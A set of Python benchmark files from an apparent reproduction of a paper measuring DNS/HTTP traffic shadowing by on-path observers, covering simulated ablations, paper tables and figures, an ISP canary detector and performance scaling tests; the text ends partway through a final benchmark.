    vps_by_id = {vp.vp_id: vp for vp in eco.platform.vantage_points}
    scheduled = set()
    for event in phase1.events:
        decoy = event.decoy
        key = (decoy.vp_id, decoy.destination_address, decoy.protocol)
        if decoy.vp_id not in resetter_vp_ids or key in scheduled:
            continue
        destination = destinations.get(decoy.destination_address)
        if destination is None:
            continue
        info = campaign.path_info(
            vps_by_id[decoy.vp_id], decoy.destination_address,
            destination_asn=eco.directory.asn_of(decoy.destination_address) or 0,
            destination_country=decoy.destination_country,
            service_name=decoy.destination_name,
        )
        tracer.schedule_traceroute(info, decoy.protocol, destination)
        scheduled.add(key)
    eco.sim.run(until=eco.sim.now() + config.phase2_observation_window)
    phase2 = correlator.correlate(eco.deployment.log, phase=2)
    locations = tracer.locate(phase2)
    return locations, resetter_vp_ids


def test_ablation_ttl_reset_exclusion(benchmark):
    locations_off, resetters = benchmark.pedantic(
        run_with_resetter, args=(False,), rounds=1, iterations=1,
    )
    locations_on, _ = run_with_resetter(True)

    relevant = [loc for loc in locations_off
                if loc.vp_id in resetters and loc.located]
    count_off = len(relevant)
    # These paths' observers genuinely sit at the destination (resolver
    # retries/shadowing), yet with TTLs rewritten every probe is delivered,
    # so the "minimal triggering TTL" is just the first probe the observer
    # happened to act on — a random mid-path hop.
    mislocated = [loc for loc in relevant if loc.trigger_ttl < loc.path_length]
    share_misplaced = len(mislocated) / count_off if count_off else 0.0
    share_hop1 = (sum(1 for loc in relevant if loc.trigger_ttl == 1) / count_off
                  if count_off else 0.0)
    emit("ablation_ttl_reset", "\n".join([
        "Ablation: TTL-reset provider exclusion",
        f"exclusion OFF: {count_off} located paths from ResetterVPN VPs;",
        f"  mislocated before the destination: {percent(share_misplaced)}",
        f"  'located' at hop 1:               {percent(share_hop1)}",
        "  (tracerouting is blind: every probe reaches the destination)",
        f"exclusion ON : 0 ResetterVPN VPs remain "
        f"({len([l for l in locations_on if l.vp_id in resetters])} paths)",
    ]))

    assert count_off > 0
    assert share_misplaced > 0.6
    assert share_hop1 > 0.25
    assert not [loc for loc in locations_on if loc.vp_id in resetters]

"""Performance — sharded campaign executor throughput.

Runs the same medium-scale campaign at 1, 2, and 4 workers, verifies the
results are byte-identical (the executor's core guarantee), and records
decoys/second to ``benchmarks/out/BENCH_campaign.json`` so the perf
trajectory is tracked across PRs.

Honesty note: parallel speedup is hardware-bound.  The artifact records
``cpu_count`` next to the throughput rows — on a single-core runner the
sharded configurations *cannot* beat serial (they pay process startup and
merge cost for no extra compute), and the numbers will say so.  See
docs/PERFORMANCE.md for how to read the artifact.

The artifact also carries a ``telemetry`` section comparing the default
run (telemetry disabled — the no-op registry path every normal run takes)
against the same campaign with ``config.telemetry = True``, plus the
digest check proving instrumentation never changes the computed result.
See docs/OBSERVABILITY.md for the overhead discussion.

Smoke mode (``REPRO_BENCH_SMOKE=1``): the tiny config at 1 and 2 workers,
for CI runs that only need to prove the bench — including the wire-byte
and merge-stage accounting — still executes end to end.
"""

import json
import os
import pathlib
import subprocess
import sys
import time

from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment
from repro.core.shard import result_digest

OUT_DIR = pathlib.Path(__file__).parent / "out"
ARTIFACT = OUT_DIR / "BENCH_campaign.json"

BENCH_SEED = 20240301
SMOKE = os.environ.get("REPRO_BENCH_SMOKE") == "1"


def _merge_artifact(path: pathlib.Path, update: dict) -> None:
    """Update ``path`` in place, preserving sections other benches own.

    ``BENCH_campaign.json`` carries both the worker-scaling rows and the
    campaign_scale curve; whichever test runs last must not clobber the
    other's section.
    """
    existing = {}
    if path.exists():
        try:
            existing = json.loads(path.read_text())
        except ValueError:
            existing = {}
    existing.update(update)
    OUT_DIR.mkdir(exist_ok=True)
    path.write_text(json.dumps(existing, indent=2, sort_keys=True) + "\n")


def _config(workers: int) -> ExperimentConfig:
    if SMOKE:
        config = ExperimentConfig.tiny(seed=BENCH_SEED)
        config.workers = workers
        return config
    return ExperimentConfig.medium(seed=BENCH_SEED, workers=workers)


def test_perf_campaign_worker_scaling():
    # Smoke still runs one sharded config so the wire-byte accounting and
    # merge-stage columns are exercised end to end, just on the tiny size.
    worker_counts = [1, 2] if SMOKE else [1, 2, 4]
    rows = []
    digests = []
    for workers in worker_counts:
        started = time.perf_counter()
        result = Experiment(_config(workers)).run()
        elapsed = time.perf_counter() - started
        decoys = len(result.ledger)
        row = {
            "workers": workers,
            "seconds": round(elapsed, 3),
            "decoys": decoys,
            "decoys_per_sec": round(decoys / elapsed, 1),
        }
        if workers > 1:
            # Data-plane cost of sharding: bytes actually shipped over
            # the worker pipes per payload kind (run_sharded counts the
            # encoded blobs as they cross), and the parent-side merge
            # stages from the span-derived timings.  Serial runs have
            # neither, so the columns are sharded-only.
            timings = result.timings
            row["wire_bytes"] = {
                "phase1": int(timings["wire_phase1_bytes"]),
                "dispatch": int(timings["wire_dispatch_bytes"]),
                "final": int(timings["wire_final_bytes"]),
                "total": int(timings["wire_phase1_bytes"]
                             + timings["wire_dispatch_bytes"]
                             + timings["wire_final_bytes"]),
                "per_worker_avg": round(
                    (timings["wire_phase1_bytes"]
                     + timings["wire_dispatch_bytes"]
                     + timings["wire_final_bytes"]) / workers, 1),
            }
            row["merge_seconds"] = {
                "merge_interim": round(timings.get("merge_interim", 0.0), 4),
                "merge_final": round(timings.get("merge_final", 0.0), 4),
                "correlate": round(timings.get("correlate", 0.0), 4),
            }
        rows.append(row)
        digests.append(result_digest(result))

    # The throughput numbers are only meaningful if every worker count
    # computed the same campaign.
    assert len(set(digests)) == 1, "sharded results diverged from serial"

    # Telemetry cost: same serial campaign, registry off vs on.  The
    # workers=1 scaling row is also a telemetry-off run, but it executed
    # first in this process and paid dataset/import warm-up; time a fresh
    # off run here so both sides of the comparison are equally warm.
    def _timed(telemetry: bool):
        config = _config(1)
        config.telemetry = telemetry
        started = time.perf_counter()
        result = Experiment(config).run()
        return result, time.perf_counter() - started

    _, off_seconds = _timed(False)
    telemetry_result, telemetry_seconds = _timed(True)
    overhead_pct = round(
        (telemetry_seconds - off_seconds) / off_seconds * 100.0, 1)
    assert result_digest(telemetry_result) == digests[0], \
        "telemetry instrumentation changed the computed result"
    counters = telemetry_result.telemetry.metrics.counter_values()
    assert counters.get("campaign.sends_planned", 0) > 0

    baseline = rows[0]["decoys_per_sec"]
    _merge_artifact(ARTIFACT, {
        "bench": "campaign_worker_scaling",
        "mode": "smoke" if SMOKE else "medium",
        "seed": BENCH_SEED,
        "cpu_count": os.cpu_count(),
        "result_digest": digests[0],
        "rows": rows,
        "speedup_vs_serial": {
            str(row["workers"]): round(row["decoys_per_sec"] / baseline, 2)
            for row in rows
        },
        "telemetry": {
            "off_seconds": round(off_seconds, 3),
            "on_seconds": round(telemetry_seconds, 3),
            "overhead_pct": overhead_pct,
            "digest_matches": True,
            "counter_count": len(counters),
        },
    })

    lines = [
        f"{row['workers']} worker(s): {row['decoys_per_sec']:>8.1f} decoys/sec"
        f"  ({row['seconds']:.2f}s, {row['decoys']} decoys)"
        + (f"  wire={row['wire_bytes']['total']}B"
           f" merge={sum(row['merge_seconds'].values()):.3f}s"
           if "wire_bytes" in row else "")
        for row in rows
    ]
    print("\n=== BENCH_campaign ===\n" + "\n".join(lines)
          + f"\ntelemetry on: {telemetry_seconds:.2f}s"
          f" (off: {off_seconds:.2f}s, overhead {overhead_pct:+.1f}%)"
          + f"\ncpu_count={os.cpu_count()}  artifact={ARTIFACT}")

    assert rows[0]["decoys"] > 1000 if not SMOKE else rows[0]["decoys"] > 100
    # Single-run wall clocks on shared CI runners are noisy; this bound
    # catches a pathological regression (e.g. accidental work on the hot
    # path) without flaking on scheduler jitter.
    assert telemetry_seconds < off_seconds * 1.5, \
        f"telemetry overhead {overhead_pct:+.1f}% is out of bounds"


STREAMING_ARTIFACT = OUT_DIR / "BENCH_streaming.json"

# On the tiny smoke config the batch path has little re-correlation work
# to amortize, so the streaming win is smaller; the full-mode bound is
# the real acceptance criterion (see docs/STREAMING.md).
MIN_REPORT_SPEEDUP = 1.0 if SMOKE else 5.0
REPORT_REPEATS = 3


def test_perf_report_streaming(tmp_path):
    """Report-stage latency: batch replay vs streaming accumulator state.

    Exports one finished run as a bundle, then times what ``repro
    report`` does under each engine: ``batch`` reloads the ledger + log
    and re-correlates before rendering; ``streaming`` reads
    ``analysis.json`` and renders from the merged accumulators.  Both
    must emit byte-identical reports; the streaming engine must be at
    least ``MIN_REPORT_SPEEDUP`` x faster (best-of-N to shave scheduler
    jitter).  Results land in ``benchmarks/out/BENCH_streaming.json``.
    """
    from repro.analysis.paperreport import full_report, full_report_from_state
    from repro.core.persist import export_result, load_analysis_state, load_bundle

    rows = []
    reports = {}
    for workers in ([1] if SMOKE else [1, 4]):
        result = Experiment(_config(workers)).run()
        bundle_dir = tmp_path / f"bundle-{workers}"
        export_result(result, bundle_dir)

        def _best(action):
            return min(_timed_call(action) for _ in range(REPORT_REPEATS))

        batch_report = None
        streaming_report = None

        def _batch():
            nonlocal batch_report
            batch_report = full_report(load_bundle(bundle_dir))

        def _streaming():
            nonlocal streaming_report
            state = load_analysis_state(bundle_dir)
            streaming_report = full_report_from_state(state)

        batch_seconds = _best(_batch)
        streaming_seconds = _best(_streaming)
        assert batch_report == streaming_report, \
            "streaming report diverged from batch"
        reports[workers] = streaming_report
        rows.append({
            "workers": workers,
            "batch_seconds": round(batch_seconds, 4),
            "streaming_seconds": round(streaming_seconds, 4),
            "speedup": round(batch_seconds / streaming_seconds, 2),
            "log_entries": len(result.log),
        })

    if len(reports) > 1:
        assert len(set(reports.values())) == 1, \
            "serial and sharded bundles rendered different reports"

    artifact = {
        "bench": "report_streaming_vs_batch",
        "mode": "smoke" if SMOKE else "medium",
        "seed": BENCH_SEED,
        "cpu_count": os.cpu_count(),
        "repeats": REPORT_REPEATS,
        "min_speedup_required": MIN_REPORT_SPEEDUP,
        "rows": rows,
    }
    OUT_DIR.mkdir(exist_ok=True)
    STREAMING_ARTIFACT.write_text(
        json.dumps(artifact, indent=2, sort_keys=True) + "\n")

    lines = [
        f"{row['workers']} worker(s): batch {row['batch_seconds']:.3f}s"
        f"  streaming {row['streaming_seconds']:.3f}s"
        f"  ({row['speedup']:.1f}x)"
        for row in rows
    ]
    print("\n=== BENCH_streaming ===\n" + "\n".join(lines)
          + f"\nartifact={STREAMING_ARTIFACT}")

    for row in rows:
        assert row["speedup"] > MIN_REPORT_SPEEDUP, (
            f"streaming report only {row['speedup']:.2f}x faster than "
            f"batch at {row['workers']} worker(s); need "
            f"> {MIN_REPORT_SPEEDUP}x"
        )


def _timed_call(action) -> float:
    started = time.perf_counter()
    action()
    return time.perf_counter() - started


_SCALE_HELPER = pathlib.Path(__file__).parent / "_scale_point.py"

# Full mode sweeps three decades of platform size (the 100k point is
# ~23x the paper's 4,364 VPs); smoke keeps CI fast with the 1k point.
# REPRO_BENCH_SCALE_POINTS overrides either (comma-separated VP counts)
# — the campaign-scale-smoke CI job pins "10000".
_SCALE_POINTS = [int(point) for point in os.environ.get(
    "REPRO_BENCH_SCALE_POINTS",
    "1000" if SMOKE else "1000,10000,100000").split(",")]

# Memory acceptance: 10x the VPs may cost at most 10x the peak RSS.  The
# streaming planner + columnar stores actually come in well under this
# (the plan is never materialized, rows are array cells), but the bound
# is what pins "no hidden O(pairs) blow-up" across PRs.
_RSS_GROWTH_LIMIT = 10.0


def _scale_point(vp_count: int, planner: str = "streaming") -> dict:
    """Run one scale point in a fresh interpreter (ru_maxrss is a
    per-process high-water mark — reusing a process would let small
    points inherit a big point's peak)."""
    env = dict(os.environ)
    src = str(pathlib.Path(__file__).parent.parent / "src")
    env["PYTHONPATH"] = src + os.pathsep + env.get("PYTHONPATH", "")
    output = subprocess.run(
        [sys.executable, str(_SCALE_HELPER), str(vp_count), planner],
        check=True, capture_output=True, text=True, env=env,
    ).stdout
    return json.loads(output.strip().splitlines()[-1])


def test_perf_campaign_scale():
    """Scale curve: decoys/sec and peak RSS at 1k/10k/100k VPs.

    Each point is one subprocess running the same seeded campaign with
    only ``vp_scale`` varying; the smallest point also runs under the
    materialized planner and must produce the identical digest — the
    drift check that keeps the streaming planner honest at scales the
    equivalence tests never reach.
    """
    rows = [_scale_point(point) for point in sorted(set(_SCALE_POINTS))]

    # Digest drift: streaming vs materialized at the smallest point.
    materialized = _scale_point(rows[0]["vp_count"], planner="materialized")
    assert materialized["digest"] == rows[0]["digest"], (
        "streaming planner diverged from materialized at "
        f"{rows[0]['vp_count']} VPs"
    )

    # RSS growth gate between consecutive decades.
    for smaller, larger in zip(rows, rows[1:]):
        growth = larger["peak_rss_mb"] / smaller["peak_rss_mb"]
        scale = larger["vp_count"] / smaller["vp_count"]
        assert growth <= _RSS_GROWTH_LIMIT * max(1.0, scale / 10.0), (
            f"peak RSS grew {growth:.1f}x from {smaller['vp_count']} to "
            f"{larger['vp_count']} VPs ({smaller['peak_rss_mb']} -> "
            f"{larger['peak_rss_mb']} MB)"
        )

    # Absolute budget gate for CI (MB, applies to the largest point).
    budget = os.environ.get("REPRO_SCALE_RSS_BUDGET_MB")
    if budget is not None:
        peak = max(row["peak_rss_mb"] for row in rows)
        assert peak <= float(budget), (
            f"peak RSS {peak} MB exceeds budget {budget} MB"
        )

    _merge_artifact(ARTIFACT, {"campaign_scale": {
        "seed": BENCH_SEED,
        "cpu_count": os.cpu_count(),
        "rss_growth_limit_per_decade": _RSS_GROWTH_LIMIT,
        "digest_drift_checked_at": rows[0]["vp_count"],
        "rows": rows,
    }})

    lines = [
        f"{row['vp_count']:>7} VPs: {row['decoys_per_sec']:>7.1f} decoys/sec"
        f"  rss={row['peak_rss_mb']:>7.1f}MB"
        f"  ({row['seconds']:.1f}s, {row['decoys']} decoys)"
        for row in rows
    ]
    print("\n=== BENCH_campaign_scale ===\n" + "\n".join(lines)
          + f"\nartifact={ARTIFACT}")

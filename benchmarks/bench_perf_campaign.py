"""Performance — sharded campaign executor throughput.

Runs the same medium-scale campaign at 1, 2, and 4 workers, verifies the
results are byte-identical (the executor's core guarantee), and records
decoys/second to ``benchmarks/out/BENCH_campaign.json`` so the perf
trajectory is tracked across PRs.

Honesty note: parallel speedup is hardware-bound.  The artifact records
``cpu_count`` next to the throughput rows — on a single-core runner the
sharded configurations *cannot* beat serial (they pay process startup and
merge cost for no extra compute), and the numbers will say so.  See
docs/PERFORMANCE.md for how to read the artifact.

The artifact also carries a ``telemetry`` section comparing the default
run (telemetry disabled — the no-op registry path every normal run takes)
against the same campaign with ``config.telemetry = True``, plus the
digest check proving instrumentation never changes the computed result.
See docs/OBSERVABILITY.md for the overhead discussion.

Smoke mode (``REPRO_BENCH_SMOKE=1``): one worker on the tiny config, for
CI runs that only need to prove the bench still executes end to end.
"""

import json
import os
import pathlib
import time

from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment
from repro.core.shard import result_digest

OUT_DIR = pathlib.Path(__file__).parent / "out"
ARTIFACT = OUT_DIR / "BENCH_campaign.json"

BENCH_SEED = 20240301
SMOKE = os.environ.get("REPRO_BENCH_SMOKE") == "1"


def _config(workers: int) -> ExperimentConfig:
    if SMOKE:
        config = ExperimentConfig.tiny(seed=BENCH_SEED)
        config.workers = workers
        return config
    return ExperimentConfig.medium(seed=BENCH_SEED, workers=workers)


def test_perf_campaign_worker_scaling():
    worker_counts = [1] if SMOKE else [1, 2, 4]
    rows = []
    digests = []
    for workers in worker_counts:
        started = time.perf_counter()
        result = Experiment(_config(workers)).run()
        elapsed = time.perf_counter() - started
        decoys = len(result.ledger)
        rows.append({
            "workers": workers,
            "seconds": round(elapsed, 3),
            "decoys": decoys,
            "decoys_per_sec": round(decoys / elapsed, 1),
        })
        digests.append(result_digest(result))

    # The throughput numbers are only meaningful if every worker count
    # computed the same campaign.
    assert len(set(digests)) == 1, "sharded results diverged from serial"

    # Telemetry cost: same serial campaign, registry off vs on.  The
    # workers=1 scaling row is also a telemetry-off run, but it executed
    # first in this process and paid dataset/import warm-up; time a fresh
    # off run here so both sides of the comparison are equally warm.
    def _timed(telemetry: bool):
        config = _config(1)
        config.telemetry = telemetry
        started = time.perf_counter()
        result = Experiment(config).run()
        return result, time.perf_counter() - started

    _, off_seconds = _timed(False)
    telemetry_result, telemetry_seconds = _timed(True)
    overhead_pct = round(
        (telemetry_seconds - off_seconds) / off_seconds * 100.0, 1)
    assert result_digest(telemetry_result) == digests[0], \
        "telemetry instrumentation changed the computed result"
    counters = telemetry_result.telemetry.metrics.counter_values()
    assert counters.get("campaign.sends_planned", 0) > 0

    baseline = rows[0]["decoys_per_sec"]
    artifact = {
        "bench": "campaign_worker_scaling",
        "mode": "smoke" if SMOKE else "medium",
        "seed": BENCH_SEED,
        "cpu_count": os.cpu_count(),
        "result_digest": digests[0],
        "rows": rows,
        "speedup_vs_serial": {
            str(row["workers"]): round(row["decoys_per_sec"] / baseline, 2)
            for row in rows
        },
        "telemetry": {
            "off_seconds": round(off_seconds, 3),
            "on_seconds": round(telemetry_seconds, 3),
            "overhead_pct": overhead_pct,
            "digest_matches": True,
            "counter_count": len(counters),
        },
    }
    OUT_DIR.mkdir(exist_ok=True)
    ARTIFACT.write_text(json.dumps(artifact, indent=2, sort_keys=True) + "\n")

    lines = [
        f"{row['workers']} worker(s): {row['decoys_per_sec']:>8.1f} decoys/sec"
        f"  ({row['seconds']:.2f}s, {row['decoys']} decoys)"
        for row in rows
    ]
    print("\n=== BENCH_campaign ===\n" + "\n".join(lines)
          + f"\ntelemetry on: {telemetry_seconds:.2f}s"
          f" (off: {off_seconds:.2f}s, overhead {overhead_pct:+.1f}%)"
          + f"\ncpu_count={os.cpu_count()}  artifact={ARTIFACT}")

    assert rows[0]["decoys"] > 1000 if not SMOKE else rows[0]["decoys"] > 100
    # Single-run wall clocks on shared CI runners are noisy; this bound
    # catches a pathological regression (e.g. accidental work on the hot
    # path) without flaking on scheduler jitter.
    assert telemetry_seconds < off_seconds * 1.5, \
        f"telemetry overhead {overhead_pct:+.1f}% is out of bounds"

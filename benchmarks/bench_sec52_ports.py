"""Section 5.2 (in-text) — open ports of observers on the wire.

Paper: 92% of observers expose no open ports; among the remainder the
most common open port is 179 (BGP), marking them as routing devices
between networks.
"""

from conftest import emit

from repro.analysis.ports import observer_port_audit
from repro.analysis.report import percent, render_table


def test_sec52_observer_port_audit(benchmark, result):
    audit = benchmark(observer_port_audit, result.locations, result.eco.topology)

    responsive = [scan for scan in audit["results"] if scan.responsive]
    emit("sec52_ports", "\n".join([
        "Section 5.2: open ports of on-path observers",
        f"observer addresses scanned: {audit['observers_scanned']}",
        f"  no open ports: {percent(audit['silent_fraction'])} (paper: 92%)",
        f"  most common open port: {audit['top_open_port']} (paper: 179/BGP)",
        "",
        render_table(
            ("address", "ports", "banners"),
            [(scan.address, ",".join(map(str, scan.open_ports)),
              ",".join(banner for _, banner in scan.banners))
             for scan in responsive[:10]],
            title="Responsive observers",
        ),
    ]))

    assert audit["observers_scanned"] > 10
    assert audit["silent_fraction"] > 0.75
    if audit["port_counts"]:
        assert audit["top_open_port"] == 179

"""Extension — the Section 6 recommendation, implemented.

"ISPs should ... establish detection mechanisms to find unknown traffic
shadowing exhibitors residing in their networks."  The canary detector
turns the paper's methodology inward: steer unique canary names through
each owned router and watch the canary zone.  The bench sweeps the
simulated Chinanet backbone and measures detection accuracy against the
deployment ground truth.
"""

import random

from conftest import emit

from repro.analysis.report import percent
from repro.core.config import ExperimentConfig
from repro.core.ecosystem import build_ecosystem
from repro.detection import IspCanaryDetector
from repro.simkit.units import DAY


def run_sweep():
    config = ExperimentConfig.tiny(seed=272727)
    config.interceptors_enabled = False
    eco = build_ecosystem(config)
    routers = [eco.topology.router_hop(4134, index, "CN") for index in range(24)]
    detector = IspCanaryDetector(
        sim=eco.sim,
        deployment=eco.deployment,
        observer_deployment=eco.observer_deployment,
        source_address="100.96.200.1",
        rng=random.Random(9),
        canaries_per_router=3,
    )
    detector.sweep(routers)
    eco.sim.run(until=eco.sim.now() + 25 * DAY)
    report = detector.report(4134, routers)
    truth = {
        hop.address for hop in routers
        if eco.observer_deployment.sniffer_for(hop) is not None
    }
    return report, truth, routers


def test_ext_isp_canary_detection(benchmark):
    report, truth, routers = benchmark.pedantic(run_sweep, rounds=1,
                                                iterations=1)

    flagged = {verdict.router_address for verdict in report.flagged}
    true_positives = flagged & truth
    false_positives = flagged - truth
    missed = truth - flagged
    recall = len(true_positives) / len(truth) if truth else 1.0

    emit("ext_isp_detection", "\n".join([
        "Extension: ISP-side canary detection (Section 6 recommendation)",
        f"routers swept (AS4134):       {len(routers)}",
        f"routers hosting DPI (truth):  {len(truth)}",
        f"routers flagged by canaries:  {len(flagged)}",
        f"  true positives:  {len(true_positives)} (recall {percent(recall)})",
        f"  false positives: {len(false_positives)}",
        f"  missed:          {len(missed)} (devices whose scheduled re-use "
        "fell beyond the listening window)",
        "One sweep of unique canary names per router localizes shadowing",
        "devices without any external vantage points.",
    ]))

    assert truth, "fixture expects DPI in AS4134"
    assert false_positives == set()
    assert recall >= 0.5

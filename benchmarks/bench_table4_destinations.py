"""Table 4 — the DNS servers decoys are sent to.

Structural artifact: 20 public resolvers + 1 self-built + 13 roots +
2 TLD servers.  Benchmarks pair-address derivation over the full set
(the vetting hot path).
"""

from conftest import emit

from repro.analysis.report import render_table
from repro.datasets.resolvers import ALL_DNS_DESTINATIONS


def derive_pairs():
    return [(destination.name, destination.pair_address)
            for destination in ALL_DNS_DESTINATIONS]


def test_table4_dns_destinations(benchmark):
    pairs = benchmark(derive_pairs)
    emit("table4_destinations", render_table(
        ("Type", "Name", "IP", "Pair resolver (App. E)"),
        [(destination.kind, destination.name, destination.address, pair)
         for destination, (_, pair) in zip(ALL_DNS_DESTINATIONS, pairs)],
        title="Table 4: DNS servers to which we send decoys",
    ))
    kinds = {}
    for destination in ALL_DNS_DESTINATIONS:
        kinds[destination.kind] = kinds.get(destination.kind, 0) + 1
    assert kinds == {"public": 20, "self-built": 1, "root": 13, "tld": 2}

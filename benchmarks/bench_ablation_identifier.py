"""Ablation — identifier encoding: compact base32+CRC vs naive hex.

DESIGN.md: the identifier must fit one DNS label (63 bytes) and reject
corrupted/foreign labels.  A naive hex encoding of the same fields with
no checksum is both longer and silently accepts corruption; this bench
quantifies size and throughput of each codec.
"""

import struct

from conftest import emit

from repro.core.identifier import DecoyIdentity, IdentifierCodec
from repro.net.addr import ip_from_int, ip_to_int

IDENTITIES = [
    DecoyIdentity(sent_at=1000 + index, vp_address=ip_from_int(0x64600000 + index),
                  dst_address="8.8.8.8", ttl=(index % 64) + 1, sequence=index % 10000)
    for index in range(512)
]


def naive_hex_encode(identity: DecoyIdentity) -> str:
    packed = struct.pack(
        "!III B H", identity.sent_at, ip_to_int(identity.vp_address),
        ip_to_int(identity.dst_address), identity.ttl, identity.sequence,
    )
    return packed.hex()


def encode_all_base32():
    codec = IdentifierCodec()
    return [codec.encode(identity) for identity in IDENTITIES]


def test_ablation_identifier_codec(benchmark):
    labels = benchmark(encode_all_base32)
    hex_labels = [naive_hex_encode(identity) for identity in IDENTITIES]

    base32_len = len(labels[0])
    hex_len = len(hex_labels[0])
    codec = IdentifierCodec()

    # Corruption detection: flip one character in every base32 label and
    # count silent acceptances (hex has no checksum at all).
    silent = 0
    for label in labels:
        token = label.split("-")[0]
        corrupted = ("a" if token[0] != "a" else "b") + token[1:] + "-0001"
        try:
            codec.decode(corrupted)
            silent += 1
        except Exception:
            pass

    emit("ablation_identifier", "\n".join([
        "Ablation: identifier codec",
        f"base32+CRC label: {base32_len} chars (fits 63-byte DNS label "
        "with room for the sequence suffix)",
        f"naive hex label:  {hex_len} chars, no integrity check",
        f"single-char corruption silently accepted by base32+CRC codec: "
        f"{silent}/{len(labels)}",
    ]))

    assert base32_len <= 63
    assert base32_len < hex_len + 6  # competitive size despite the checksum
    assert silent <= 1  # CRC-16 collision chance is ~2^-16 per trial
    decoded = codec.decode(labels[0])
    assert decoded == IDENTITIES[0]

"""Performance — wire codec throughput.

Not a paper artifact, but the property that makes paper-scale campaigns
(46.6M DNS + 3.4B HTTP/TLS decoys) tractable in simulation: encoding and
decoding must be cheap.  pytest-benchmark tracks regressions.
"""

import random

import pytest

from repro.core.identifier import DecoyIdentity, IdentifierCodec
from repro.protocols.dns import DnsMessage, make_query
from repro.protocols.http import HttpRequest, make_get
from repro.protocols.tls import ClientHello, TlsPlaintext, wrap_handshake

DOMAIN = "g6d8jjkut5obc4-9982.www.experiment.domain"


def test_perf_dns_roundtrip(benchmark):
    wire = make_query(DOMAIN, txid=7).encode()

    def roundtrip():
        return DnsMessage.decode(wire).qname

    assert benchmark(roundtrip) == DOMAIN


def test_perf_http_roundtrip(benchmark):
    wire = make_get(DOMAIN).encode()

    def roundtrip():
        return HttpRequest.decode(wire).host

    assert benchmark(roundtrip) == DOMAIN


def test_perf_tls_roundtrip(benchmark):
    hello = ClientHello(server_name=DOMAIN, random=bytes(32))
    wire = wrap_handshake(hello.encode())

    def roundtrip():
        record = TlsPlaintext.decode(wire)
        return ClientHello.decode(record.fragment).server_name

    assert benchmark(roundtrip) == DOMAIN


def test_perf_identifier_roundtrip(benchmark):
    codec = IdentifierCodec()
    identity = DecoyIdentity(sent_at=123456, vp_address="100.96.0.7",
                             dst_address="8.8.8.8", ttl=64, sequence=42)

    def roundtrip():
        return codec.decode(codec.encode(identity))

    assert benchmark(roundtrip) == identity


def test_perf_end_to_end_tiny_campaign(benchmark):
    """Decoys-per-second of the whole pipeline at test scale."""
    from repro.core.config import ExperimentConfig
    from repro.core.experiment import Experiment

    def run():
        return Experiment(ExperimentConfig.tiny(seed=99)).run()

    result = benchmark.pedantic(run, rounds=1, iterations=1)
    assert len(result.ledger) > 1000

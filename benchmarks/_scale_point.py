"""One campaign_scale measurement point, run in its own process.

``ru_maxrss`` is a per-process high-water mark that never comes back
down, so every scale point must be its own interpreter — the parent
bench (``bench_perf_campaign.py::test_perf_campaign_scale``) launches
this script once per (VP count, planner) and reads one JSON object from
stdout.

Usage: python benchmarks/_scale_point.py <vp_count> [streaming|materialized]
"""

import json
import os
import resource
import sys
import time

PAPER_VPS = 4364
"""The paper's platform size; ``vp_scale`` is expressed against it."""


def scale_config(vp_count: int):
    """The campaign_scale config: plan size proportional to VP count.

    Based on tiny (smallest per-VP work), with the resolver pool capped
    at 2 so the DNS plan is ~2 sends per VP, and short observation
    windows — the curve measures planner/store scaling, not correlation
    depth.  Every point uses the same seed, so points differ only in
    ``vp_scale``.
    """
    from repro.core.config import ExperimentConfig

    config = ExperimentConfig.tiny(seed=20240301)
    config.vp_scale = vp_count / PAPER_VPS
    config.dns_destination_count = 2
    config.observation_window = 3600.0
    config.phase2_observation_window = 3600.0
    return config


def main() -> None:
    vp_count = int(sys.argv[1])
    planner = sys.argv[2] if len(sys.argv) > 2 else "streaming"
    os.environ["REPRO_CAMPAIGN_PLANNER"] = planner

    from repro.core.experiment import Experiment
    from repro.core.shard import result_digest

    started = time.perf_counter()
    result = Experiment(scale_config(vp_count)).run()
    elapsed = time.perf_counter() - started
    # Linux reports ru_maxrss in KiB.
    maxrss_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    decoys = len(result.ledger)
    print(json.dumps({
        "vp_count": vp_count,
        "planner": planner,
        "vps_recruited": len(result.eco.platform.vantage_points),
        "decoys": decoys,
        "log_entries": len(result.log),
        "seconds": round(elapsed, 3),
        "decoys_per_sec": round(decoys / elapsed, 1),
        "peak_rss_mb": round(maxrss_kib / 1024.0, 1),
        "digest": result_digest(result),
    }))


if __name__ == "__main__":
    main()

"""Figure 6 — origin ASes of unsolicited requests triggered by DNS decoys
sent to Resolver_h.

Paper shapes: Google (AS15169) is a significant origin of unsolicited DNS
queries (exhibitors resolving observed names through Google Public DNS);
one resolver's decoys fan out to multiple origin ASes (ISPs + clouds);
5.2% of origin IPs are on the Spamhaus blocklist.
"""

from conftest import emit

from repro.analysis.origins import origin_as_distribution, origin_blocklist_rate
from repro.analysis.report import percent, render_table


def test_fig6_origin_ases(benchmark, result):
    rows = benchmark(origin_as_distribution, result.phase1.events,
                     result.eco.directory)

    dns_origin_rate = origin_blocklist_rate(
        result.phase1.events, result.eco.blocklist, "dns", "dns"
    )
    emit("fig6_origin_ases", render_table(
        ("Destination", "Request", "Origin AS", "Network", "Requests", "Share"),
        [(row.destination_name, row.request_protocol.upper(), f"AS{row.asn}",
          row.as_name[:38], row.requests, percent(row.share)) for row in rows],
        title="Figure 6: Origin ASes of unsolicited requests (DNS decoys to "
              "Resolver_h)",
    ) + f"\n\nOrigin IPs blocklisted (DNS queries): {percent(dns_origin_rate)} "
        "(paper: 5.2%)")

    dns_rows = [row for row in rows if row.request_protocol == "dns"]
    assert dns_rows
    # Google must appear among DNS origins for several destinations.
    google_destinations = {row.destination_name for row in dns_rows
                           if row.asn == 15169}
    assert len(google_destinations) >= 3
    # 114DNS decoys fan out to multiple ASes.
    asns_114 = {row.asn for row in dns_rows if row.destination_name == "114DNS"}
    assert len(asns_114) >= 3
    # Blocklist rate in the single-digit-percent band.
    assert 0.0 < dns_origin_rate < 0.2

"""Extension — Appendix E's resolver-authoritative path argument, measured.

The paper argues traffic shadowing on the resolver-authoritative leg is
unattractive because (1) queries there carry the resolver's source
address, not the client's, and (2) with QNAME minimization, upstream
servers never even see the full decoy name.  This bench plants an
observer on that leg and quantifies both properties over a batch of
decoy resolutions.
"""

import random

from conftest import emit

from repro.analysis.report import percent
from repro.core.identifier import DecoyIdentity, IdentifierCodec
from repro.protocols.dns.recursion import DnsHierarchy, IterativeResolver

ZONE = "www.experiment.domain"
CODEC = IdentifierCodec()
CLIENTS = [f"100.96.7.{index}" for index in range(1, 41)]


def run_chain(minimize: bool):
    hierarchy = DnsHierarchy()
